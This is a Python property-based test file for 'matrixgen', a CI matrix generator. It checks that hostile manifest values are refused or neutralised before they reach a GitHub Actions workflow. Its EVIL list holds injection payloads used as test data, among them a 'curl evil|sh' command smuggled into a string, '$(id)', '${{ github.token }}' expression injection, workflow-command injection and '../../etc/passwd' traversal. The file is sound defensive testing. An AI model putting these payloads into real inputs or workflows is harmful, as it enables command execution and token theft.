"""No manifest gives a traceback or a string that a workflow could run; any good one gives exactly its rows."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from matrixgen.battery import UNTRUSTED_EVENTS
from matrixgen.errors import MatrixgenError
from matrixgen.family import Artifact, Family, FileDigest
from matrixgen.jobs import jobs_of
from matrixgen.manifest import FILES, Manifest, check_manifest, load_manifest
from matrixgen.matrix import github_outputs, leg_matrix
from matrixgen.outputs import frame
from matrixgen.plan import build_plan, plan_to_json
from matrixgen.planfile import plan_text
from tests.matrixgen.kit import FIXED

Run = Callable[..., Any]
MANIFEST = load_manifest(FIXED)
DATA = {name: json.loads((FIXED / f"{name}.json").read_text(encoding="utf-8")) for name in FILES}
#: What a cell of a matrix may hold anywhere: nothing that a shell, an expression or a workflow command is made of.
SAFE = re.compile(r"[A-Za-z0-9 .,_@~()-]*")
EVIL = [
    'x";curl evil|sh;#', "$(id)", "`id`", "${{ github.token }}", "a\n::set-output name=x::y", "\x1b[2J", "<<EOF", "%0A", "a\\b",
    "../../etc/passwd", "-rf", "\u202eevil", "\u0000", "é", "A" * 5000, 10**400, -1, 1e308, True, None, [], {}, "", " ", "'",
]  # fmt: skip

SHAPES = {"dense": "ResidentKv", "recurrent": "KvRecurrent", "hybrid": "KvRecurrent", "encoder": "disabled"}
NAMES = st.from_regex(r"[a-z0-9][a-z0-9._-]{0,20}", fullmatch=True)


def strings(value: Any) -> list[str]:
    """Every string in a JSON value, keys too."""
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (str(key), *strings(item))]
    if isinstance(value, list):
        return [text for item in value for text in strings(item)]
    return [value] if isinstance(value, str) else []


@st.composite
def manifests(draw: st.DrawFn) -> Manifest:
    """Any good manifest: made-up rows of every tier and shape, with and without weights of any size."""
    rows = []
    for name in draw(st.lists(NAMES, max_size=12, unique=True)):
        shape = draw(st.sampled_from(sorted(SHAPES)))
        size = draw(st.one_of(st.none(), st.integers(1, 59 * 2**30)))
        artifact = Artifact(
            repo="a/b", revision="1" * 40, selector="", files=(FileDigest("x.gguf", size, "2" * 64 if size else None),)
        )
        base = MANIFEST.family("mamba")
        tier = draw(st.sampled_from([1, 2, 3, None]))
        arch = f"dropped-{name}" if tier == 3 else "mamba"
        row = base._replace(family=name, tier=tier, shape=shape, cache=SHAPES[shape], arch=arch, artifact=artifact)
        rows.append(row)
    return MANIFEST._replace(families=tuple(rows))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(manifest=manifests(), event=st.sampled_from(sorted(MANIFEST.batteries.events)), minutes=st.integers(0, 60))
def test_any_good_manifest(manifest: Manifest, event: str, minutes: int) -> None:
    """Legs are exactly the rows with a battery, jobs a partition of them, the text is the same twice, and all of it is safe."""
    by_tier = manifest.batteries.events[event]
    plan = build_plan(manifest, event=event, allow_empty=True)
    owed = {
        f"{family.family}@{backend}"
        for family in manifest.families
        if family.tier is not None and family.tier in by_tier
        if manifest.batteries.lanes_for(by_tier[family.tier], family.shape)
        for backend in by_tier[family.tier].backends
    }
    assert {leg.id for leg in plan.legs} == owed
    assert len(plan.legs) == len(owed)
    jobs = jobs_of(plan.legs, pack_minutes=minutes)
    assert sorted(leg.id for job in jobs for leg in job.legs) == sorted(owed)
    backwards = manifest._replace(families=manifest.families[::-1])
    assert plan_text(build_plan(backwards, event=event, allow_empty=True)) == plan_text(plan)
    matrix = leg_matrix(plan, jobs)
    assert [text for text in strings(matrix) if not SAFE.fullmatch(text)] == []
    if event in UNTRUSTED_EVENTS:
        assert "self-hosted" not in strings(matrix)
        assert {leg.subject for leg in plan.legs} <= {"twin"}


def paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON value."""
    found = [path]
    if isinstance(value, dict):
        return found + [place for key, item in value.items() for place in paths(item, (*path, key))]
    if isinstance(value, list):
        return found + [place for index, item in enumerate(value[:3]) for place in paths(item, (*path, index))]
    return found


PLACES = [(name, path) for name in FILES for path in paths(DATA[name]) if path]


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(place=st.sampled_from(PLACES), evil=st.sampled_from(EVIL), as_key=st.booleans())
def test_hostile_values_are_refused_or_harmless(place: tuple[str, tuple[Any, ...]], evil: Any, as_key: bool) -> None:
    """Any value or key of any file replaced by something hostile: findings, or a plan in which nothing of it can be run."""
    name, path = place
    data = copy.deepcopy(DATA[name])
    target = data
    for step in path[:-1]:
        target = target[step]
    if as_key and isinstance(target, dict):
        target[str(evil)[:200]] = target.pop(path[-1])
    else:
        target[path[-1]] = evil
    findings, manifest = check_manifest(FIXED, replaced={name: json.dumps(data)}, today="2026-11-29")
    for finding in findings:
        assert finding.message
        assert finding.fix
        shown = f"{finding.pointer}{finding.message}{finding.fix}"
        assert shown.isprintable()
    if manifest is None:
        assert any(finding.severity == "error" for finding in findings)
        return
    for event in ("llama-bump", "pull-request"):
        try:
            plan = build_plan(manifest, event=event, allow_empty=True)
            outputs = github_outputs(plan)
        except MatrixgenError:
            continue
        cells = [text for key in ("matrix", "builds") for text in strings(json.loads(outputs[key]))]
        assert [text for text in cells if not SAFE.fullmatch(text)] == []
        assert "null" not in outputs["matrix"]
        assert frame(outputs).isascii()


@settings(max_examples=150, deadline=None)
@given(
    name=st.sampled_from(FILES),
    text=st.one_of(st.text(max_size=80), st.binary(max_size=80).map(lambda b: b.decode("latin-1"))),
)
def test_any_text_is_a_finding(name: str, text: str) -> None:
    """A file of any text is told as findings, never as an exception."""
    findings, manifest = check_manifest(FIXED, replaced={name: text})
    assert manifest is None
    assert findings


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, '{"a":' * 50_000, "9" * 100_000, '{"schema_version": 1' + "0" * 5000 + "}", '"' + "\\ud800" * 100 + '"',
     '{"a": 1e999999}', "[-" + "9" * 10_000 + "]", '{"a"' * 3, "\ufeff{}", "{}" * 1000, "/" * 10_000],
)  # fmt: skip
@pytest.mark.parametrize("name", FILES)
def test_extreme_text(name: str, text: str) -> None:
    """Deep nesting, huge numbers, broken Unicode: one finding or more, soon."""
    findings, manifest = check_manifest(FIXED, replaced={name: text})
    assert manifest is None
    assert {finding.id for finding in findings} <= {"MG002", "MG003", "MG004", "MG005", "MG010"}


def test_notes_never_reach_a_matrix(run: Run, folder: Path) -> None:
    """A14, A31: free text stays in the plan, where no expression is evaluated."""
    path = folder / "families.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    for row in data["families"]:
        row["notes"] = row["reason"] = "${{ github.token }} $(id) <<EOF ::error::x"
    path.write_text(json.dumps(data), encoding="utf-8")
    result = run("emit", "--event", "release", "--manifests", str(folder))
    assert result.code == 0
    assert "github.token" not in result.out
    assert "github.token" in run("plan", "--event", "release", "--manifests", str(folder)).out


def test_plan_json_is_what_the_schema_says() -> None:
    """The whole plan of every event matches the published schema, by the slow and the fast check."""
    from matrixgen import schema
    from matrixgen.quick import compile_schema

    wanted = schema.load_schema(schema.packaged_root(), "plan")
    for event in MANIFEST.batteries.events:
        data = plan_to_json(build_plan(MANIFEST, event=event))
        assert compile_schema(wanted)(data)
        assert not list(schema.validator(wanted).iter_errors(data))


def test_rows_survive_the_plan() -> None:
    """What a leg says of its family is the row, whole."""
    for leg in build_plan(MANIFEST, event="release").legs:
        assert Family.from_row(leg.to_json()["family"]) == MANIFEST.family(leg.family.family)
